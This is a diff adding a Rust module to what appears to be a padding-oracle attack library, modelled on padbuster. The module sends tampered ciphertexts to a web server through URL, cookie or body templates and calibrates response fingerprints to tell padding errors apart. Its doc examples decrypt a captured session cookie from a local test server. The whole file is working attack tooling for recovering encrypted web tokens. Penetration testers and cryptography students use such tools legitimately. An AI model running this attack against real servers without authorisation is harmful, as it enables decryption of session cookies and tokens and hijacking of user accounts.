@@ -0,0 +1,552 @@
+//! An oracle sending the probes to a web server, like padbuster does.
+//!
+//! The probes are encoded and put into a request template, wherever the [PLACEHOLDER] is: in the
+//! URL, in a header such as a cookie, or in the body. A [Rule] then tells from the response
+//! whether the padding was valid, or [calibrate] finds out what the padding errors look like.
+//!
+//! This speaks plain HTTP/1.1 over TCP, without any dependency. For HTTPS targets, go through a
+//! TLS terminating proxy, such as the intercepting proxy already used to look at the target.
+//!
+//! # Example
+//! ```no_run
+//! use padding_oracle::http::{Encoding, HttpOracle, Request, Rule};
+//!
+//! let request = Request {
+//!     headers: vec![("Cookie".into(), "session={ciphertext}".into())],
+//!     ..Request::get("http://127.0.0.1:8080/profile")
+//! };
+//! // The server answers with a 500 when the padding is wrong
+//! let rule = Rule::Not(Box::new(Rule::Status(500)));
+//! let oracle = HttpOracle::new(request, Encoding::Base64, rule)?;
+//!
+//! let cookie = "dGhpcyBpcyBub3QgYSByZWFsIGNvb2tpZSEhISEhISE=";
+//! let ciphertext = Encoding::Base64.decode(cookie).unwrap();
+//! let plaintext = padding_oracle::decrypt(&ciphertext, 16, oracle)?;
+//! # Ok::<(), padding_oracle::Error>(())
+//! ```
+
+use std::boxed::Box;
+use std::fmt;
+use std::io::{self, Read, Write};
+use std::net::TcpStream;
+use std::string::{String, ToString};
+use std::sync::Arc;
+use std::time::Duration;
+use std::vec::Vec;
+
+use crate::{base64, PaddingOracle, Result};
+
+/// Where the encoded probe goes in the [Request].
+pub const PLACEHOLDER: &str = "{ciphertext}";
+
+/// An oracle sending every probe to a web server.
+#[derive(Debug, Clone)]
+pub struct HttpOracle {
+    request: Request,
+    encoding: Encoding,
+    rule: Rule,
+    url: Url,
+}
+
+impl HttpOracle {
+    /// Send the probes with `request`, encoded with `encoding`, and tell whether the padding was
+    /// valid from the response with `rule`.
+    ///
+    /// Fails with [Error::Io](crate::Error::Io) if the URL is not a valid `http://` one.
+    pub fn new(request: Request, encoding: Encoding, rule: Rule) -> Result<Self> {
+        let url = Url::parse(&request.url)?;
+
+        Ok(Self {
+            request,
+            encoding,
+            rule,
+            url,
+        })
+    }
+
+    /// Send a ciphertext, and return the response. This is what each query does, before
+    /// applying the rule.
+    pub fn send(&self, ciphertext: &[u8]) -> io::Result<Response> {
+        let encoded = self.encoding.encode(ciphertext);
+        let fill = |template: &str| template.replace(PLACEHOLDER, &encoded);
+        let body = fill(&self.request.body);
+
+        let mut head = std::format!(
+            "{} {} HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n",
+            self.request.method,
+            fill(&self.url.path),
+            self.url.authority,
+        );
+        for (name, value) in &self.request.headers {
+            head += &std::format!("{name}: {}\r\n", fill(value));
+        }
+        if !body.is_empty() {
+            head += &std::format!("Content-Length: {}\r\n", body.len());
+        }
+        head += "\r\n";
+
+        let mut stream = TcpStream::connect((self.url.host.as_str(), self.url.port))?;
+        stream.set_read_timeout(self.request.timeout)?;
+        stream.set_write_timeout(self.request.timeout)?;
+
+        stream.write_all(head.as_bytes())?;
+        stream.write_all(body.as_bytes())?;
+
+        let mut raw = Vec::new();
+        stream.read_to_end(&mut raw)?;
+
+        Response::parse(&raw)
+    }
+}
+
+impl PaddingOracle for HttpOracle {
+    type Response = io::Result<bool>;
+
+    fn query(&mut self, ciphertext: &[u8]) -> io::Result<bool> {
+        self.send(ciphertext)
+            .map(|response| self.rule.matches(&response))
+    }
+}
+
+/// What tells the responses of a server apart, see [calibrate].
+#[derive(Debug, Clone, PartialEq, Eq, Hash)]
+pub struct Fingerprint {
+    /// The status code.
+    pub status: u16,
+
+    /// The length of the body.
+    pub length: usize,
+
+    /// Where the response redirects to, if anywhere.
+    pub location: Option<String>,
+}
+
+impl Fingerprint {
+    /// The fingerprint of a response.
+    pub fn of(response: &Response) -> Self {
+        Self {
+            status: response.status,
+            length: response.body.len(),
+            location: response.header("Location").map(str::to_string),
+        }
+    }
+}
+
+/// The responses sent back during a [calibrate] run, grouped by [Fingerprint].
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Calibration {
+    /// Never empty, since calibrating sends requests
+    fingerprints: Vec<(Fingerprint, usize)>,
+}
+
+impl Calibration {
+    /// Every fingerprint received, with how many responses had it, the most common first.
+    pub fn fingerprints(&self) -> &[(Fingerprint, usize)] {
+        &self.fingerprints
+    }
+
+    /// The fingerprint of the padding errors, which is the most common one.
+    pub fn invalid(&self) -> &Fingerprint {
+        &self.fingerprints[0].0
+    }
+
+    /// A rule matching every response but the padding errors.
+    pub fn rule(&self) -> Rule {
+        let invalid = self.invalid().clone();
+
+        Rule::custom(move |response| Fingerprint::of(response) != invalid)
+    }
+}
+
+/// Find out what the padding errors of a server look like, so the [Rule] doesn't have to be known
+/// in advance, like padbuster does.
+///
+/// The byte before the last block of `ciphertext` is set to each of its 256 values, which breaks
+/// the padding for all but one or two of them, besides the original ciphertext. The responses
+/// are then grouped by [Fingerprint], and the most common one is the padding error. Check the
+/// other fingerprints in the [Calibration] if the server answers in more ways.
+///
+/// This costs 256 requests. The ciphertext needs at least two blocks, the IV included. Fails with
+/// [Error::RejectedCiphertext](crate::Error::RejectedCiphertext) if the original ciphertext looks
+/// like a padding error too.
+///
+/// # Example
+/// ```no_run
+/// use padding_oracle::http::{self, Encoding, HttpOracle, Request};
+///
+/// # let ciphertext = [0u8; 32];
+/// let request = Request::get("http://127.0.0.1:8080/profile?token={ciphertext}");
+/// let calibration = http::calibrate(&request, Encoding::Hex, &ciphertext, 16)?;
+/// eprintln!("Padding errors look like {:?}", calibration.invalid());
+///
+/// let oracle = HttpOracle::new(request, Encoding::Hex, calibration.rule())?;
+/// let plaintext = padding_oracle::decrypt(&ciphertext, 16, oracle)?;
+/// # Ok::<(), padding_oracle::Error>(())
+/// ```
+pub fn calibrate(
+    request: &Request,
+    encoding: Encoding,
+    ciphertext: &[u8],
+    blocksize: usize,
+) -> Result<Calibration> {
+    crate::check_blocksize(blocksize)?;
+
+    if !ciphertext.len().is_multiple_of(blocksize) {
+        return Err(crate::Error::WrongSize {
+            blocksize,
+            found: ciphertext.len(),
+        });
+    }
+
+    if ciphertext.len() < 2 * blocksize {
+        return Err(crate::Error::TooShort {
+            min: 2 * blocksize,
+            found: ciphertext.len(),
+        });
+    }
+
+    // Any rule will do, only the responses are used
+    let oracle = HttpOracle::new(request.clone(), encoding, Rule::Status(200))?;
+    let tampered = ciphertext.len() - blocksize - 1;
+
+    let mut probe = ciphertext.to_vec();
+    let mut fingerprints: Vec<(Fingerprint, usize)> = Vec::new();
+    let mut original = None;
+
+    for value in 0..=255 {
+        probe[tampered] = value;
+        let fingerprint = Fingerprint::of(&oracle.send(&probe)?);
+
+        if value == ciphertext[tampered] {
+            original = Some(fingerprint.clone());
+        }
+
+        match fingerprints.iter_mut().find(|(f, _)| *f == fingerprint) {
+            Some((_, count)) => *count += 1,
+            None => fingerprints.push((fingerprint, 1)),
+        }
+    }
+
+    fingerprints.sort_by_key(|(_, count)| core::cmp::Reverse(*count));
+    let calibration = Calibration { fingerprints };
+
+    if original.as_ref() == Some(calibration.invalid()) {
+        return Err(crate::Error::RejectedCiphertext);
+    }
+
+    Ok(calibration)
+}
+
+/// The request template of an [HttpOracle]. The [PLACEHOLDER] in the URL, in header values and
+/// in the body is replaced by the encoded probe.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Request {
+    /// The HTTP method, such as `GET` or `POST`.
+    pub method: String,
+
+    /// The URL, starting with `http://`.
+    pub url: String,
+
+    /// Headers to send on top of the `Host`, `Connection` and `Content-Length` ones.
+    pub headers: Vec<(String, String)>,
+
+    /// The body, sent if not empty.
+    pub body: String,
+
+    /// How long to wait for the server, or `None` to wait forever.
+    ///
+    /// Defaults to 30 seconds.
+    pub timeout: Option<Duration>,
+}
+
+impl Default for Request {
+    fn default() -> Self {
+        Self {
+            method: "GET".into(),
+            url: String::new(),
+            headers: Vec::new(),
+            body: String::new(),
+            timeout: Some(Duration::from_secs(30)),
+        }
+    }
+}
+
+impl Request {
+    /// A `GET` request to `url`.
+    pub fn get(url: impl Into<String>) -> Self {
+        Self {
+            url: url.into(),
+            ..Default::default()
+        }
+    }
+
+    /// A `POST` request of a form to `url`.
+    pub fn post_form(url: impl Into<String>, body: impl Into<String>) -> Self {
+        Self {
+            method: "POST".into(),
+            url: url.into(),
+            headers: Vec::from([(
+                "Content-Type".into(),
+                "application/x-www-form-urlencoded".into(),
+            )]),
+            body: body.into(),
+            ..Default::default()
+        }
+    }
+}
+
+/// How the probes are written in the request.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
+pub enum Encoding {
+    /// Lowercase hexadecimal.
+    #[default]
+    Hex,
+
+    /// Uppercase hexadecimal.
+    UpperHex,
+
+    /// Base64, with `+`, `/` and `=` padding. These characters need URL encoding in URLs and
+    /// forms, where [Encoding::Base64Url] may be what the server expects.
+    Base64,
+
+    /// URL safe base64, with `-` and `_`, without padding.
+    Base64Url,
+
+    /// The URL tokens of ASP.NET, see [url_token_encode](crate::aspnet::url_token_encode).
+    UrlToken,
+}
+
+impl Encoding {
+    /// Encode bytes.
+    ///
+    /// # Example
+    /// ```
+    /// use padding_oracle::http::Encoding;
+    ///
+    /// assert_eq!(Encoding::Base64.encode(b"\xfb\xff"), "+/8=");
+    /// assert_eq!(Encoding::Base64Url.encode(b"\xfb\xff"), "-_8");
+    /// ```
+    pub fn encode(&self, bytes: &[u8]) -> String {
+        match self {
+            Self::Hex => bytes.iter().map(|b| std::format!("{b:02x}")).collect(),
+            Self::UpperHex => bytes.iter().map(|b| std::format!("{b:02X}")).collect(),
+            Self::Base64 => base64::encode(bytes, base64::STANDARD, true),
+            Self::Base64Url => base64::encode(bytes, base64::URL_SAFE, false),
+            Self::UrlToken => crate::aspnet::url_token_encode(bytes),
+        }
+    }
+
+    /// Decode a string, such as a captured cookie, or `None` if it is not valid. Base64 padding
+    /// is optional.
+    pub fn decode(&self, encoded: &str) -> Option<Vec<u8>> {
+        match self {
+            Self::Hex | Self::UpperHex => crate::util::from_hex(encoded),
+            Self::Base64 => base64::decode(encoded, base64::STANDARD),
+            Self::Base64Url => base64::decode(encoded, base64::URL_SAFE),
+            Self::UrlToken => crate::aspnet::url_token_decode(encoded),
+        }
+    }
+}
+
+/// A response of the server.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Response {
+    /// The status code, such as `200`.
+    pub status: u16,
+
+    /// The headers, in the order they were received.
+    pub headers: Vec<(String, String)>,
+
+    /// The body, with the chunked transfer encoding removed.
+    pub body: Vec<u8>,
+}
+
+impl Response {
+    /// The value of the first header with that name, ignoring case.
+    pub fn header(&self, name: &str) -> Option<&str> {
+        self.headers
+            .iter()
+            .find(|(header, _)| header.eq_ignore_ascii_case(name))
+            .map(|(_, value)| value.as_str())
+    }
+
+    fn parse(raw: &[u8]) -> io::Result<Self> {
+        let invalid = || io::Error::new(io::ErrorKind::InvalidData, "invalid HTTP response");
+
+        let end = raw
+            .windows(4)
+            .position(|w| w == b"\r\n\r\n")
+            .ok_or_else(invalid)?;
+        let head = std::str::from_utf8(&raw[..end]).map_err(|_| invalid())?;
+        let mut lines = head.split("\r\n");
+
+        let status = lines
+            .next()
+            .and_then(|line| line.split(' ').nth(1))
+            .and_then(|status| status.parse().ok())
+            .ok_or_else(invalid)?;
+        let headers = lines
+            .filter_map(|line| line.split_once(':'))
+            .map(|(name, value)| (name.trim().to_string(), value.trim().to_string()))
+            .collect();
+
+        let mut response = Self {
+            status,
+            headers,
+            body: raw[end + 4..].to_vec(),
+        };
+
+        if response
+            .header("Transfer-Encoding")
+            .is_some_and(|encoding| encoding.eq_ignore_ascii_case("chunked"))
+        {
+            response.body = dechunk(&response.body).ok_or_else(invalid)?;
+        }
+
+        Ok(response)
+    }
+}
+
+/// Remove the chunked transfer encoding
+fn dechunk(mut raw: &[u8]) -> Option<Vec<u8>> {
+    let mut body = Vec::new();
+
+    loop {
+        let line = raw.windows(2).position(|w| w == b"\r\n")?;
+        let size = std::str::from_utf8(&raw[..line]).ok()?;
+        let size = size.split(';').next()?.trim();
+        let size = usize::from_str_radix(size, 16).ok()?;
+
+        raw = &raw[line + 2..];
+        if size == 0 {
+            return Some(body);
+        }
+
+        body.extend_from_slice(raw.get(..size)?);
+        raw = raw.get(size + 2..)?;
+    }
+}
+
+/// What a response with a valid padding looks like.
+///
+/// # Example
+/// ```
+/// use padding_oracle::http::Rule;
+///
+/// // Anything but the error page of the padding
+/// let rule = Rule::Not(Box::new(Rule::BodyContains("Invalid padding".into())));
+///
+/// // Regular expressions, or anything else, with a closure
+/// let rule = Rule::custom(|response| response.status == 200 && response.body.len() > 100);
+/// ```
+#[derive(Clone)]
+pub enum Rule {
+    /// The response has this status code.
+    Status(u16),
+
+    /// The body contains this string.
+    BodyContains(String),
+
+    /// This header contains this string, the name ignoring case.
+    HeaderContains(String, String),
+
+    /// The other rule doesn't match.
+    Not(Box<Rule>),
+
+    /// Every rule matches.
+    All(Vec<Rule>),
+
+    /// The function returns `true`, see [Rule::custom].
+    Custom(Arc<dyn Fn(&Response) -> bool + Send + Sync>),
+}
+
+impl Rule {
+    /// A rule matching the responses for which `matches` returns `true`.
+    pub fn custom(matches: impl Fn(&Response) -> bool + Send + Sync + 'static) -> Self {
+        Self::Custom(Arc::new(matches))
+    }
+
+    /// Whether the response says the padding is valid.
+    pub fn matches(&self, response: &Response) -> bool {
+        match self {
+            Self::Status(status) => response.status == *status,
+            Self::BodyContains(needle) => contains(&response.body, needle.as_bytes()),
+            Self::HeaderContains(name, needle) => response
+                .header(name)
+                .is_some_and(|value| value.contains(needle.as_str())),
+            Self::Not(rule) => !rule.matches(response),
+            Self::All(rules) => rules.iter().all(|rule| rule.matches(response)),
+            Self::Custom(matches) => matches(response),
+        }
+    }
+}
+
+impl fmt::Debug for Rule {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            Self::Status(status) => f.debug_tuple("Status").field(status).finish(),
+            Self::BodyContains(needle) => f.debug_tuple("BodyContains").field(needle).finish(),
+            Self::HeaderContains(name, needle) => f
+                .debug_tuple("HeaderContains")
+                .field(name)
+                .field(needle)
+                .finish(),
+            Self::Not(rule) => f.debug_tuple("Not").field(rule).finish(),
+            Self::All(rules) => f.debug_tuple("All").field(rules).finish(),
+            Self::Custom(_) => f.write_str("Custom(..)"),
+        }
+    }
+}
+
+fn contains(haystack: &[u8], needle: &[u8]) -> bool {
+    needle.is_empty() || haystack.windows(needle.len()).any(|w| w == needle)
+}
+
+/// The parts of an `http://` URL
+#[derive(Debug, Clone)]
+struct Url {
+    /// The host and port, for the `Host` header
+    authority: String,
+    host: String,
+    port: u16,
+    /// The path and query
+    path: String,
+}
+
+impl Url {
+    fn parse(url: &str) -> io::Result<Self> {
+        let invalid =
+            |message: &str| io::Error::new(io::ErrorKind::InvalidInput, message.to_string());
+
+        let rest = url
+            .strip_prefix("http://")
+            .ok_or_else(|| invalid("the URL must start with http://"))?;
+        let (authority, path) = match rest.find(['/', '?']) {
+            Some(i) if rest[i..].starts_with('?') => (&rest[..i], std::format!("/{}", &rest[i..])),
+            Some(i) => (&rest[..i], rest[i..].to_string()),
+            None => (rest, "/".to_string()),
+        };
+
+        let (host, port) = match authority.rsplit_once(':') {
+            Some((host, port)) if !port.contains(']') => (
+                host,
+                port.parse()
+                    .map_err(|_| invalid("invalid port in the URL"))?,
+            ),
+            _ => (authority, 80),
+        };
+        // IPv6 addresses are in brackets
+        let host = host.trim_start_matches('[').trim_end_matches(']');
+
+        if host.is_empty() {
+            return Err(invalid("the URL has no host"));
+        }
+
+        Ok(Self {
+            authority: authority.to_string(),
+            host: host.to_string(),
+            port,
+            path,
+        })
+    }
+}